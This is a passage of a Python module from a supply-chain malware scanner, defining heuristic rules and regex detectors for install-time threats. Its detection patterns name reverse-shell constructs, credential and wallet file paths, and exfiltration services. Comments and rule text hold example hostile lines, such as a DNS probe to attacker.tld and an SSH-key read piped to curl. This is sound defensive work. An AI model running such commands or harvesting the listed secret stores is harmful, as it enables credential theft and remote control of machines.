"""Rules, signals and the analyst-style scoring shared by the language analyzers.

Language analyzers (:mod:`.python_ast`, :mod:`.javascript`) only *observe*:
they emit :class:`Signal` records ("reads ~/.aws/credentials at line 12",
"POSTs variable ``data`` which holds that read"). :func:`score` then judges
like a careful analyst: a *capability* alone (network, subprocess) is
informational; a *threat* indicator is worse, and worst when it is combined with
another in the same flow (env read → network send; decode → exec; install hook
→ download → exec) or runs at install/import time.
"""

from __future__ import annotations

import base64
import enum
import importlib
import ipaddress
import re
from collections import defaultdict
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from typing import Any, Final

from chainwarden.models import Finding, Location, Package, RuleId, Severity


class Kind(enum.StrEnum):
    CAPABILITY = "capability"
    THREAT = "threat"


class Context(enum.StrEnum):
    """When the code runs, which decides how much a finding matters."""

    INSTALL = "install"  # setup.py, npm install scripts and what they run, .pth at startup
    IMPORT = "import"  # module top level of a package's __init__ / main entry
    RUNTIME = "runtime"  # only when the application calls it
    TEST = "test"  # tests, docs, examples: weighed down, never skipped


@dataclass(frozen=True, slots=True)
class HeuristicRule:
    """One heuristic: what it detects, why it matters, how bad it is alone."""

    id: RuleId
    name: str  # PascalCase, for SARIF
    kind: Kind
    base: Severity
    summary: str
    rationale: str
    remediation: str = "Read the flagged code before installing; do not install if it cannot be explained."


def _rule(rule_id: str, name: str, kind: Kind, base: Severity, summary: str, rationale: str) -> HeuristicRule:
    return HeuristicRule(RuleId(rule_id), name, kind, base, summary, rationale)


#: Every heuristic; tests are parametrised over this mapping, so a rule without
#: positive and benign samples fails the suite.
RULES: Final[Mapping[str, HeuristicRule]] = {
    rule.id: rule
    for rule in (
        _rule("capability-install-hook", "InstallHook", Kind.CAPABILITY, Severity.LOW,
              "Runs code at install time",
              "setup.py beyond setup(), cmdclass overrides, npm pre/post-install scripts and .pth files run with "
              "the installing user's rights before anyone reviewed the package."),
        _rule("capability-network", "NetworkEgress", Kind.CAPABILITY, Severity.INFO,
              "Can open network connections",
              "HTTP, sockets and DNS lookups are how stolen data leaves a machine; alone they are ordinary."),
        _rule("capability-subprocess", "Subprocess", Kind.CAPABILITY, Severity.INFO,
              "Starts processes",
              "Shelling out is how payloads are launched; alone it is ordinary."),
        _rule("capability-dynamic-exec", "DynamicExec", Kind.CAPABILITY, Severity.INFO,
              "Executes code built at run time",
              "eval/exec/Function of non-literal data hides what runs from a reviewer."),
        _rule("capability-native-binary", "NativeBinary", Kind.CAPABILITY, Severity.INFO,
              "Ships a native executable",
              "Bundled ELF/PE/Mach-O executables cannot be reviewed as source."),
        _rule("capability-fs-write", "FilesystemWrite", Kind.CAPABILITY, Severity.INFO,
              "Writes or deletes files",
              "Writing, deleting and renaming files is how payloads persist and how protestware destroys; "
              "alone it is ordinary."),
        _rule("malicious-decode-exec", "DecodeExec", Kind.THREAT, Severity.HIGH,
              "Executes decoded or decompressed data",
              "exec/eval of base64/hex/zlib/marshal/rot13 data is the signature of packed malware (W4SP, "
              "event-stream's flatmap-stream)."),
        _rule("malicious-download-exec", "DownloadExec", Kind.THREAT, Severity.HIGH,
              "Downloads and runs code",
              "Fetching a payload at install or import time and executing it (ua-parser-js, 'request' 2017) "
              "lets the attacker change it after review."),
        _rule("malicious-reverse-shell", "ReverseShell", Kind.THREAT, Severity.CRITICAL,
              "Opens a reverse shell",
              "A socket wired to a shell gives a remote attacker interactive control."),
        _rule("malicious-credential-access", "CredentialAccess", Kind.THREAT, Severity.LOW,
              "Reads or sends credentials and secrets",
              "~/.ssh, ~/.aws, .npmrc, browser and wallet stores, /etc/passwd are what stealers harvest "
              "(ssh-decorator, torchtriton, Discord token grabbers); a wallet seed or private key sent over "
              "the network is a backdoor in library code (xrpl 2025)."),
        _rule("malicious-env-exfiltration", "EnvExfiltration", Kind.THREAT, Severity.LOW,
              "Serialises the whole environment",
              "Dumping os.environ/process.env collects every CI token at once (crossenv, ctx)."),
        _rule("malicious-exfil-endpoint", "ExfilEndpoint", Kind.THREAT, Severity.MEDIUM,
              "Talks to an exfiltration channel",
              "Discord/Telegram webhooks, paste sites, tunnels, OAST callbacks and raw IP URLs are where "
              "stealers send data; libraries rarely hard-code them."),
        _rule("malicious-obfuscation", "Obfuscation", Kind.THREAT, Severity.MEDIUM,
              "Obfuscated or packed code",
              "obfuscator.io output (worse with its rotated string array), JS-Confuser's hex arithmetic, "
              "PyArmor, names hidden by string building or spelled from typeof results, URLs written in "
              "\\x escapes and code hidden past the edge of the screen exist to defeat review."),
        _rule("malicious-dns-probe", "DnsProbe", Kind.THREAT, Severity.HIGH,
              "Leaks host identity through DNS",
              "nslookup $(whoami).attacker.tld is the dependency-confusion probe (Birsan 2021, torchtriton)."),
        _rule("malicious-clipboard-hijack", "ClipboardHijack", Kind.THREAT, Severity.HIGH,
              "Rewrites cryptocurrency addresses in the clipboard",
              "Clipboard access next to wallet-address patterns is the colourama clipper."),
        _rule("malicious-destructive-write", "DestructiveWrite", Kind.THREAT, Severity.HIGH,
              "Overwrites or deletes files it did not create",
              "Looping over the home, root or current directory (or a path hidden by encoding) to overwrite or "
              "delete every entry, or deleting such a directory recursively, is protestware and wiper "
              "behaviour (node-ipc 2022); a remote trigger such as a geolocation lookup makes it critical."),
        _rule("malicious-client-injection", "ClientInjection", Kind.THREAT, Severity.HIGH,
              "Injects code into a desktop client",
              "Rewriting Discord's desktop core or a browser's shortcuts to side-load an extension makes the "
              "user's own client steal tokens, cookies and clipboard contents every time it starts."),
        _rule("malicious-command-shadowing", "CommandShadowing", Kind.THREAT, Severity.HIGH,
              "Installs a command named like a common tool",
              "A console script or npm bin called aws, pip, git, python or kubectl from a package that is not "
              "that tool lands first on PATH and wraps the real command: every later call hands it arguments, "
              "credentials and tokens."),
        _rule("malicious-silent-process", "SilentProcess", Kind.THREAT, Severity.MEDIUM,
              "Starts hidden or detached processes",
              "Processes started with hidden windows, detached and with output discarded (nohup … &) are how "
              "droppers keep running unseen after an install."),
    )
}  # fmt: skip

CAPABILITY_SEVERITY: Final = {
    Context.INSTALL: Severity.LOW,
    Context.IMPORT: Severity.INFO,
    Context.RUNTIME: Severity.INFO,
    Context.TEST: Severity.INFO,
}


@dataclass(frozen=True, slots=True)
class Signal:
    """One observation in one file."""

    rule_id: str
    path: str  # relative to the package root
    line: int
    snippet: str
    why: str
    context: Context
    scope: str = "<module>"  # function the code is in: flows are judged per scope
    flow: str | None = None  # a proven data flow, e.g. "os.environ → requests.post"
    severity: Severity | None = None  # set by analyzers that already know (e.g. combined flows)


# --------------------------------------------------------------------------- shared patterns

CREDENTIAL_PATTERNS: Final = tuple(
    (re.compile(pattern, re.IGNORECASE), label)
    for pattern, label in (
        (r"\.ssh(?![\w.-])|id_rsa|id_ed25519|authorized_keys", "SSH keys"),
        (r"\.aws(/|\\\\?)(credentials|config)", "AWS credentials"),
        (r"\.npmrc", "npm token file"),
        (r"\.pypirc", "PyPI token file"),
        (r"\.git-credentials", "git credentials"),
        (r"\.docker(/|\\\\?)config\.json", "Docker registry credentials"),
        (r"\.kube(/|\\\\?)config", "Kubernetes credentials"),
        (r"^/etc/(passwd|shadow)$", "system account database"),
        (r"Local Storage(/|\\\\?)leveldb", "browser/Discord token store"),
        (
            r"Login Data|Web Data|key4\.db|logins\.json|[\\/]Network[\\/]Cookies|cookies\.sqlite",
            "browser password store",
        ),
        (r"User Data(/|\\\\?)Default|Mozilla(/|\\\\?)Firefox", "browser profile"),
        (
            r"wallet\.dat|\bExodus\b|\bElectrum\b|\bMetaMask\b|nkbihfbeogaeaoehlefnkodbefgpgknn|Atomic(/|\\\\?)Local",
            "crypto wallet",
        ),
        (r"discord(canary|ptb)?(/|\\\\?)", "Discord client data"),
        (r"Telegram Desktop|\btdata\b", "Telegram session"),
        (r"\.bash_history|\.zsh_history", "shell history"),
        (r"\.config(/|\\\\?)gh(/|\\\\?)hosts\.yml", "GitHub CLI token"),
        (
            r"169\.254\.169\.254/(latest/(meta-data/iam|api/token)|computeMetadata|metadata/identity)"
            r"|metadata\.google\.internal/computeMetadata",
            "cloud instance credentials",
        ),
        (r"\.ROBLOSECURITY", "Roblox session cookie"),
        (r"discord(app)?\.com/api/v\d+/users/@me", "Discord token (account lookup)"),
    )
)

EXFIL_HOSTS: Final = re.compile(
    r"(discord(app)?\.com/api/webhooks|/api/webhooks/\d+/|api\.telegram\.org/bot|/bot\d+:[\w-]+/send"
    r"|pastebin\.|hastebin|paste\.ee|transfer\.sh|file\.io\b|ngrok(-free)?\.(io|app)|webhook\.site"
    r"|requestbin|pipedream\.net|burpcollaborator\.net|oastify\.com|interact\.sh|oast\.(fun|pro|live|site|online|me)"
    r"|canarytokens|dnslog\.cn|ceye\.io|trycloudflare\.com|serveo\.net|loca\.lt|localtunnel\.me)",
    re.IGNORECASE,
)
RAW_IP_URL: Final = re.compile(r"\b(?:https?|tcp|ftp)://(\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?", re.IGNORECASE)

SHELL_DOWNLOAD: Final = re.compile(
    r"\b(curl|wget)\b[^|;&]*https?://|\bInvoke-WebRequest\b|\biwr\b\s|DownloadString|DownloadFile"
    r"|certutil(\.exe)?\s+-urlcache|\bbitsadmin\b.*\/transfer|\bStart-BitsTransfer\b",
    re.IGNORECASE,
)
SHELL_PIPE_EXEC: Final = re.compile(
    r"\|\s*(ba|z|da)?sh\b|\|\s*iex\b|\|\s*python[0-9.]*\b|\biex\s*\(|Invoke-Expression", re.IGNORECASE
)
#: Starting a program is ordinary (installers run msiexec); after a download on the same line it is the dropper.
SHELL_LAUNCH: Final = re.compile(r"Start-Process|regsvr32|rundll32|&&\s*\./|;\s*\./", re.IGNORECASE)
SHELL_SENDS: Final = re.compile(
    r"\b(?:curl|wget|nc|ncat|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b.*(?:https?://|\s\d{1,3}(?:\.\d{1,3}){3}\b)",
    re.IGNORECASE,
)
SHELL_READS: Final = re.compile(r"\b(?:cat|type|xargs\s+cat|Get-Content|base64|tar|zip)\b", re.IGNORECASE)
#: ``powershell -enc <base64 UTF-16LE>``: a command nobody can read without decoding it.
SHELL_ENCODED_POWERSHELL: Final = re.compile(
    r"\b(?:powershell|pwsh)(?:\.exe)?\b[^|&;]*?\s-(?:e|ec|en|enc|enco|encodedcommand)\s+['\"]?([A-Za-z0-9+/=]{16,})",
    re.IGNORECASE,
)
#: Batch files that spell commands from substrings of a variable: ``%x:~3,1%%x:~0,1%…``.
SHELL_BATCH_SUBSTRINGS: Final = re.compile(r"(?:%[\w$#@]+:~-?\d+,-?\d+%){4,}")
#: ``nohup node x.js >/dev/null 2>&1 &``: a process left running after the install, its output thrown
#: away (``BUILD_ID=…`` keeps Jenkins from killing it with the build).
SHELL_BACKGROUND: Final = re.compile(
    r"\bnohup\b[^;|]*&\s*(?:$|[;)'\"])|\bBUILD_ID=\S+\s+nohup\b|\bsetsid\b[^;|]*>\s*/dev/null[^;|]*&\s*(?:$|[;)'\"])"
)
#: ``echo … > /etc/x``, ``>> ~/.bashrc``: an install hook writing system files or shell start-up files
#: (persistence, tampering); ``> /dev/null`` and paths inside the package are not.
SHELL_SYSTEM_WRITE: Final = re.compile(
    r"(?:>>?|\btee\s+(?:-a\s+)?)\s*['\"]?(?:/etc/|/usr/(?:local/)?s?bin/|/s?bin/|/boot/|/lib/systemd/"
    r"|/var/spool/cron|/Library/Launch|(?:~|\$HOME|\$\{HOME\})/\.(?:bashrc|bash_profile|profile|zshrc|zprofile))"
)
SYSTEM_WRITE_WHY: Final = "writes into a system or shell start-up file"
SHELL_REVERSE: Final = re.compile(
    r"/dev/tcp/|\bnc(at)?\b[^|;]*\s-e\s|\bsocat\b.*exec:|bash\s+-i\s*>&|mkfifo\s+/tmp/", re.IGNORECASE
)
SHELL_DNS_PROBE: Final = re.compile(
    r"(?<![\w-])(nslookup|dig|host|ping)\s[^;|&]*(\$\(|`|%USERNAME%|%COMPUTERNAME%|\$USER\b|\$HOSTNAME\b)",
    re.IGNORECASE,
)
#: Recursive deletion of the root or home directory, or of everything in it (``rm -rf *`` after a
#: ``cd`` is ordinary clean-up, so the working directory is left out).
SHELL_DESTROY: Final = re.compile(
    r"\brm\s+(?:-{1,2}[\w-]+\s+)*-[a-zA-Z]*[rR][a-zA-Z]*\s+(?:-{1,2}[\w-]+\s+)*"
    r"(?:/\*?|~/?\*?|\$HOME/?\*?|\$\{HOME\}/?\*?)(?=\s|$|;|&|\|)"
    r"|\b(?:rd|rmdir|del)\s+(?:/[sqfSQF]\s+)+[a-zA-Z]:\\?\*?(?=\s|$)"
    r"|\bRemove-Item\b[^|;]*-Recurse[^|;]*\s(?:[a-zA-Z]:\\|\$env:USERPROFILE|~)",
)
#: Variables and fields holding wallet secrets: such values never need to leave the machine.
#: ``private_key`` counts only in wallet code (certificate APIs upload TLS keys); a bare ``seed``
#: never does (generation APIs send random seeds).
WALLET_SECRET_NAME: Final = re.compile(
    r"_?(?:seed_?phrase|mnemonic(?:_?phrase)?|xprv|wallet_?(?:seed|key|secret|private_?key))", re.IGNORECASE
)
PRIVATE_KEY_NAME: Final = re.compile(r"_?(?:private_?key|priv_?key|secret_?key)", re.IGNORECASE)
WALLET_CODE: Final = re.compile(
    r"wallet|mnemonic|bip39|bip32|secp256k1|web3|ethers|xrpl|bitcoin|ethereum|solana", re.IGNORECASE
)
#: Directories whose entries are never a package's to overwrite or delete. The working directory
#: counts only when the path is hidden or the deletion is triggered remotely (clean-up code lists it).
ROOT_AND_HOME: Final = frozenset({"/", "/*", "~", "~/", "/home", "/home/", "/root", "/Users", "C:\\", "C:/", "C:"})
WORKING_DIRECTORY: Final = frozenset({".", "./", "..", "../"})
WORKING_DIRECTORY_LABEL: Final = "the working directory"
SHELL_CHMOD_RUN: Final = re.compile(r"chmod\s+(\+x|[0-7]*7[0-7]*)\s", re.IGNORECASE)

WALLET_ADDRESS: Final = re.compile(
    r"(\^?\(?bc1\|\[13\]|\[13\]\[a-km-zA-HJ-NP-Z1-9\]|0x\[a-fA-F0-9\]\{40\}|\[48\]\[0-9AB\]|bc1q|T\[A-Za-z1-9\]\{33\})"
)

TEST_DIR_NAMES: Final = frozenset({
    "test", "tests", "testing", "__tests__", "spec", "docs", "doc", "examples", "example", "benchmarks", "bench",
    "samples", "fixtures",
})  # fmt: skip


#: Top-level directories of a source tree that hold the project's own tooling
#: (release scripts, CI); they are not installed, so weighed like tests.
REPO_TOOLING_DIRS: Final = frozenset({"scripts", "tools", "ci", ".github", "dev", "devtools", "build_tools", "misc"})


def is_test_path(path: str) -> bool:
    """Tests, docs and examples: payloads hide there too, so they are weighed, not skipped."""
    parts = [p.lower() for p in path.replace("\\", "/").split("/") if p]
    if not parts:
        return False
    name = parts[-1]
    return (
        any(p in TEST_DIR_NAMES for p in parts[:-1])
        or (len(parts) > 1 and parts[0] in REPO_TOOLING_DIRS)
        or name.startswith("test_")
        or name.endswith(("_test.py", ".test.js", ".spec.js", ".test.ts", ".spec.ts"))
        or name == "conftest.py"
    )


_ANY_CREDENTIAL: Final = re.compile("|".join(f"(?:{p.pattern})" for p, _ in CREDENTIAL_PATTERNS), re.IGNORECASE)
_ANY_IP_URL: Final = re.compile(r"://\d")


def credential_label(text: str) -> str | None:
    """What kind of secret store a string names, or None."""
    if len(text) > 300 or not _ANY_CREDENTIAL.search(text):
        return None
    for pattern, label in CREDENTIAL_PATTERNS:
        if pattern.search(text):
            return label
    return None


def destructive_write(
    call: str, entries_of: str | None, tree_of: str | None, triggered: bool
) -> tuple[str, str | None, Severity | None] | None:
    """(why, flow, severity) of a ``malicious-destructive-write``, or None when the write is ordinary.

    ``entries_of`` names the foreign directory whose entries the call overwrites or
    deletes one by one, ``tree_of`` the one it deletes whole; ``triggered`` says the
    code runs on network data. The working directory counts only when triggered.
    """
    directory = entries_of or tree_of
    if directory is None or (directory.startswith(WORKING_DIRECTORY_LABEL) and not triggered):
        return None
    what = f"{call}() on every entry of {entries_of}" if entries_of else f"{call}() of {tree_of}"
    if not triggered:
        return what, None, None
    return f"{what}, on network data (a remote trigger)", f"network response → {what}", Severity.CRITICAL


def decode_literal(text: str, encoding: str) -> str | None:
    """What an encoded literal says (base64 or hex), when it decodes to short printable text."""
    try:
        raw = bytes.fromhex(text) if encoding == "hex" else base64.b64decode(text, validate=True)
        decoded = raw.decode("utf-8")
    except (ValueError, UnicodeDecodeError):
        return None
    return decoded if len(decoded) <= 200 and decoded.isprintable() else None


class WalletSecrets:
    """Names of wallet secrets in one source file (``wallet secret (privateKey)``).

    Private-key names count only in wallet code (:data:`WALLET_CODE`); whether a
    file is wallet code costs a pass over its text, so it is decided on first need.
    """

    def __init__(self, source: str) -> None:
        self._source = source
        self._wallet_code: bool | None = None
        #: whether any secret name can occur at all (cheap; gates whole-tree passes)
        self.possible = _WALLET_NAMES.search(source) or _may_send_private_key(source)

    def label(self, name: str | None) -> str | None:
        if not name:
            return None
        if WALLET_SECRET_NAME.fullmatch(name) or (PRIVATE_KEY_NAME.fullmatch(name) and self._in_wallet_code()):
            return f"wallet secret ({name})"
        return None

    def _in_wallet_code(self) -> bool:
        if self._wallet_code is None:
            self._wallet_code = WALLET_CODE.search(self._source) is not None
        return self._wallet_code


def exfil_label(text: str) -> str | None:
    """Why a string looks like an exfiltration endpoint, or None."""
    if len(text) > 2000:
        return None
    match = EXFIL_HOSTS.search(text)
    if match:
        return f"exfiltration service {match.group(0)!r}"
    if not _ANY_IP_URL.search(text):
        return None
    for ip_match in RAW_IP_URL.finditer(text):
        try:
            address = ipaddress.ip_address(ip_match.group(1))
        except ValueError:
            continue
        private = (
            address.is_loopback
            or address.is_unspecified
            or address.is_link_local
            or any(address in ipaddress.ip_network(net) for net in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16"))
        )
        if not private:
            return f"URL with a raw IP address {ip_match.group(0)!r}"
    return None


#: Cheap pre-filters (exact substrings, one Aho-Corasick pass when pyahocorasick
#: is installed): a file containing none of these cannot raise a threat, so it
#: only gets the capability token scan instead of a parse.
SECRET_KEYWORDS: Final = (
    ".ssh", "id_rsa", "id_ed25519", "authorized_keys", ".aws", "npmrc", "pypirc", "git-credentials", ".docker",
    ".kube/config", ".kube\\config", "'.kube'", '".kube"', "/etc/passwd", "/etc/shadow", "leveldb", "login data",
    "web data", "key4.db", "logins.json", "network/cookies", "network\\cookies", "cookies.sqlite", "user data",
    "mozilla/firefox", "mozilla\\firefox", "wallet.dat", "exodus", "electrum", "metamask", "discord", "telegram",
    "bash_history", "zsh_history", "gh/hosts", "169.254.169.254", "metadata.google", "roblosecurity",
    "users/@me", "api/webhooks", "pastebin", "hastebin", "paste.ee", "transfer.sh",
    "file.io", "ngrok", "requestbin", "pipedream", "burpcollaborator", "oastify", "interact.sh", "oast.",
    "canarytokens", "dnslog", "ceye.io", "trycloudflare", "serveo", "loca.lt", "localtunnel",
)  # fmt: skip
PYTHON_KEYWORDS: Final = (
    "exec(", "exec (", "eval(", "eval (", "b64decode", "decodebytes", "decodestring", "unhexlify",
    "fromhex", "a2b_", "zlib.decompress", "marshal.loads", "codecs.decode", "rot13", "rot_13",
    "import_module(", "__builtins__", "builtins.exec", "builtins.eval", "import builtins", "clipboard", "pyperclip",
    "__pyarmor__", "__armor", "dup2", "pty.spawn", "import pty", "from pty", "/dev/tcp", "CREATE_NO_WINDOW",
    "DETACHED_PROCESS", "start /b", "nohup", "pythonw", "getuser", "gethostname", "getfqdn", "getlogin",
    "platform.node", "urlretrieve", "startfile", "mnemonic", "seed_phrase", "xprv",
)  # fmt: skip
JS_KEYWORDS: Final = (
    "child_process", "execa", "shelljs", "cross-spawn", "eval(", "eval (", "vm.run", "vm.Script", "._compile",
    "module.constructor", "_0x", "clipboard", "atob(", "fromCharCode", "createDecipher", "nslookup", "os.hostname",
    "hostname()", "userInfo", "curl ", "wget ", "powershell", "certutil", "chmodSync", "detached",
    "mnemonic", "seedPhrase", "xprv", "Mnemonic", "fromSecretKey", "PRIVATE KEY", "privatekey", "nohup",
    "document.cookie",
)  # fmt: skip
#: Destructive writes need both a directory walk or recursive delete and a directory that is not
#: the package's (root, home, working directory, a hidden path): most packages have at most one.
PYTHON_DESTRUCTIVE_WORDS: Final = ("listdir", "scandir", "os.walk", "rmtree", "iterdir", "rglob")
PYTHON_FOREIGN_DIRECTORY_WORDS: Final = (
    "expanduser('~')", 'expanduser("~")', "'HOME'", '"HOME"', "USERPROFILE", "home()", "b64decode", "fromhex",
    "unhexlify",
)  # fmt: skip
#: The working directory is foreign only on a remote trigger (clean-up code lists it).
PYTHON_WORKING_DIRECTORY_WORDS: Final = ("getcwd", "cwd()", "'.'", '"."', "'./'", '"./"')
PYTHON_NETWORK_WORDS: Final = ("requests.", "urlopen", "urllib.request", "http.client", "httpx.", "socket.")
JS_DESTRUCTIVE_WORDS: Final = ("readdir", "rimraf", "rmSync", "rmdir", "emptyDir", "removeSync")
JS_FOREIGN_DIRECTORY_WORDS: Final = ("homedir", "env.HOME", "USERPROFILE", "Buffer.from", "atob")
JS_WORKING_DIRECTORY_WORDS: Final = ("cwd()", "'.'", '"."', "'./'", '"./"')
JS_NETWORK_WORDS: Final = (
    "http.get", "https.get", "http.request", "https.request", "fetch(", "axios", "net.connect", "dns.",
)  # fmt: skip
#: Private-key names need wallet code around them (WalletSecrets).
PRIVATE_KEY_WORDS: Final = ("privateKey", "private_key", "privKey", "priv_key", "secretKey", "secret_key")
#: Command words that matter only inside a process call (docstrings are full of curl examples).
SHELL_WORDS: Final = (
    "curl", "wget", "nslookup", "powershell", "certutil", "bitsadmin", "Invoke-", "rm -", "Remove-Item",
)  # fmt: skip
PROCESS_CALLS: Final = ("subprocess", "os.system", "popen", "Popen", "spawn", "os.exec", "startfile")


class KeywordSet:
    """Whether a text contains any of some words: one Aho-Corasick pass with
    pyahocorasick when installed, else one ``in`` test per word."""

    def __init__(self, words: tuple[str, ...], *, ignore_case: bool = False) -> None:
        self.words = tuple(w.lower() for w in words) if ignore_case else words
        self.ignore_case = ignore_case
        self._automaton: Any = None
        try:
            ahocorasick: Any = importlib.import_module("ahocorasick")
        except ImportError:
            return
        automaton = ahocorasick.Automaton()
        for word in self.words:
            automaton.add_word(word, word)
        automaton.make_automaton()
        self._automaton = automaton

    def search(self, text: str) -> bool:
        haystack = text.lower() if self.ignore_case else text
        if self._automaton is not None:
            return next(self._automaton.iter(haystack), None) is not None
        return any(word in haystack for word in self.words)


_SECRET_SET: Final = KeywordSet(SECRET_KEYWORDS, ignore_case=True)
_WALLET_NAMES: Final = KeywordSet((
    "mnemonic", "Mnemonic", "MNEMONIC", "seedPhrase", "seed_phrase", "SEED_PHRASE", "xprv", "wallet_", "walletKey",
    "walletSeed", "walletSecret", "walletPrivateKey",
))  # fmt: skip
_PYTHON_SET: Final = KeywordSet(PYTHON_KEYWORDS)
_JS_SET: Final = KeywordSet(JS_KEYWORDS)
_PRIVATE_KEY_SET: Final = KeywordSet(PRIVATE_KEY_WORDS)


def _mentions(text: str, words: tuple[str, ...]) -> bool:
    return any(word in text for word in words)


def python_may_destroy(text: str) -> bool:
    """Whether Python code can walk or delete a directory that is not the package's (else: no need to track)."""
    return _mentions(text, PYTHON_DESTRUCTIVE_WORDS) and (
        _mentions(text, PYTHON_FOREIGN_DIRECTORY_WORDS)
        or (_mentions(text, PYTHON_WORKING_DIRECTORY_WORDS) and _mentions(text, PYTHON_NETWORK_WORDS))
    )


def js_may_destroy(text: str) -> bool:
    """Whether JavaScript can walk or delete a directory that is not the package's (else: no need to track)."""
    return _mentions(text, JS_DESTRUCTIVE_WORDS) and (
        _mentions(text, JS_FOREIGN_DIRECTORY_WORDS)
        or (_mentions(text, JS_WORKING_DIRECTORY_WORDS) and _mentions(text, JS_NETWORK_WORDS))
    )


def _may_send_private_key(text: str) -> bool:
    return _PRIVATE_KEY_SET.search(text) and WALLET_CODE.search(text) is not None


_SHELL_SET: Final = KeywordSet(SHELL_WORDS)
_ENV_DUMP: Final = re.compile(
    r"environ\b(?!\s*(?:\[|\.get\b|\.setdefault\b|\.pop\b|\.update\b))|process\.env\b(?!\s*\.)"
)
#: download → write → run needs no threat keyword at all (``open("x.exe", "wb").write(r.content)``)
_WRITES_BYTES: Final = re.compile(r"""['"]wb\+?['"]|write_bytes\(|\.exe['"]""")
_BUILT_NAME: Final = re.compile(r"getattr\([^)\n]*['\"]\s*\+")
_ENV_SERIALISED: Final = re.compile(r"(?:dumps|str|repr|print|b64encode|urlencode)\(\s*(?:os\.)?environ\b")
_HIDDEN_IMPORT: Final = re.compile(r"__import__\(\s*(?!['\"][\w.]+['\"]\s*\))")
_NETWORK_SET: Final = KeywordSet(("requests", "urllib", "http", "socket", "dns", "smtplib", "ftplib", "websocket"))
_BARE_COMPILE: Final = re.compile(r"(?<![.\w])compile\(")
_FUNCTION_CONSTRUCTOR: Final = re.compile(r"(?<![\w.$])Function\s*\(")


def _secret_or_hidden(text: str) -> bool:
    return (
        _SECRET_SET.search(text) or (" " * 150) in text or ("\t" * 150) in text or _ANY_IP_URL.search(text) is not None
    )


def python_needs_parse(text: str) -> bool:
    """Whether a Python file can hold a threat (else: capabilities only)."""
    return (
        _PYTHON_SET.search(text)
        or ("compile(" in text and _BARE_COMPILE.search(text) is not None)
        or ("chmod" in text and ("urlopen" in text or "requests." in text))
        or (_SHELL_SET.search(text) and any(call in text for call in PROCESS_CALLS))
        or ("environ" in text and _ENV_DUMP.search(text) is not None and _NETWORK_SET.search(text))
        or ("environ" in text and _ENV_SERIALISED.search(text) is not None)
        or ("__import__" in text and _HIDDEN_IMPORT.search(text) is not None)
        or ("TXT" in text and "dns" in text and "subprocess" in text)
        or ("recv(" in text and "subprocess" in text)
        or (_WRITES_BYTES.search(text) is not None and _NETWORK_SET.search(text) and _mentions(text, PROCESS_CALLS))
        or ("getattr(" in text and _BUILT_NAME.search(text) is not None)
        or _secret_or_hidden(text)
        or python_may_destroy(text)
        or _may_send_private_key(text)
    )


_JS_BUILT_NAME: Final = re.compile(
    r"(?<![\w$.])require\(\s*(?:\[|['\"][^'\"\n]{0,40}['\"]\s*\+)"
    r"|(?:global|globalThis|window|self)\s*\[\s*['\"][^'\"\n]{0,20}['\"]\s*\+"
    r"|\.split\(\s*['\"]['\"]\s*\)\.reverse\(\)"
)


#: Text spelled in escapes (``"\\x68\\x74\\x74\\x70…"``) and JS-Confuser index arithmetic hide everything
#: the keyword filter looks for.
_JS_ESCAPED_TEXT: Final = re.compile(r"(?:\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}){8}")
_JS_HEX_TERNARY: Final = re.compile(r"[<>]=?\s*-?0x[0-9a-fA-F]+\s*\?\s*[\w$]+\s*[-+]\s*0x")


def js_needs_parse(text: str) -> bool:
    """Whether a JavaScript file can hold a threat (else: capabilities only)."""
    return (
        _JS_SET.search(text)
        or ("\\" in text and _JS_ESCAPED_TEXT.search(text) is not None)
        or ("0x" in text and _JS_HEX_TERNARY.search(text) is not None)
        or _JS_BUILT_NAME.search(text) is not None
        or ("Function" in text and _FUNCTION_CONSTRUCTOR.search(text) is not None)
        or ("process.env" in text and _ENV_DUMP.search(text) is not None)
        or _secret_or_hidden(text)
        or js_may_destroy(text)
        or _may_send_private_key(text)
    )


#: Capabilities of files without any threat keyword: module imports, found by substring.
PYTHON_CAPABILITY_IMPORTS: Final = (
    ("capability-network", ("requests", "urllib", "http.client", "httplib", "httpx", "aiohttp", "socket", "ftplib",
                            "smtplib", "websocket", "pycurl", "dns.resolver")),
    ("capability-subprocess", ("subprocess", "pty")),
)  # fmt: skip


def _powershell_text(encoded: str) -> str | None:
    try:
        text = base64.b64decode(encoded + "=" * (-len(encoded) % 4), validate=True).decode("utf-16-le")
    except (ValueError, UnicodeDecodeError):
        return None
    return text[:4000] if text.isprintable() else None


def shell_command_signals(command: str) -> list[tuple[str, str]]:
    """Threats in a shell command line: (rule_id, why)."""
    found: list[tuple[str, str]] = []
    if SHELL_REVERSE.search(command):
        found.append(("malicious-reverse-shell", "shell command wires a shell to a network socket"))
    destroy = SHELL_DESTROY.search(command)
    if destroy:
        found.append(("malicious-destructive-write", f"recursively deletes {destroy.group(0).strip()!r}"))
    if SHELL_DNS_PROBE.search(command):
        found.append(("malicious-dns-probe", "DNS lookup of a name built from the user/host identity"))
    encoded = SHELL_ENCODED_POWERSHELL.search(command)
    if encoded:
        found.append(("malicious-obfuscation", "runs an encoded PowerShell command (-EncodedCommand)"))
        inner = _powershell_text(encoded.group(1))
        if inner is not None and inner != command:
            found.extend((rule, f"{why} (inside the encoded PowerShell)") for rule, why in shell_command_signals(inner))
    written = SHELL_SYSTEM_WRITE.search(command)
    if written:
        why = f"{SYSTEM_WRITE_WHY} ({written.group(0)!r})"
        found.append(("malicious-destructive-write", why))
    if SHELL_BACKGROUND.search(command):
        found.append(("malicious-silent-process", "starts a background process that outlives it, output discarded"))
    if SHELL_BATCH_SUBSTRINGS.search(command):
        found.append(("malicious-obfuscation", "batch command spelled from variable substrings (%v:~n,1%…)"))
    if SHELL_DOWNLOAD.search(command) and (
        SHELL_PIPE_EXEC.search(command) or SHELL_CHMOD_RUN.search(command) or SHELL_LAUNCH.search(command)
    ):
        found.append(("malicious-download-exec", "downloads a file and executes it"))
    elif SHELL_DOWNLOAD.search(command):
        found.append(("capability-network", "shell command downloads from the network"))
    elif SHELL_PIPE_EXEC.search(command):
        found.append(("malicious-download-exec", "pipes data into a shell interpreter"))
    label = exfil_label(command)
    if label:
        found.append(("malicious-exfil-endpoint", label))
    secret = credential_label(command) if len(command) <= 300 else None
    if secret and SHELL_SENDS.search(command):
        # ``a=$(cat ~/.ssh/id_rsa.pub) && curl -d "k=$a" https://…``: read and sent on one command line
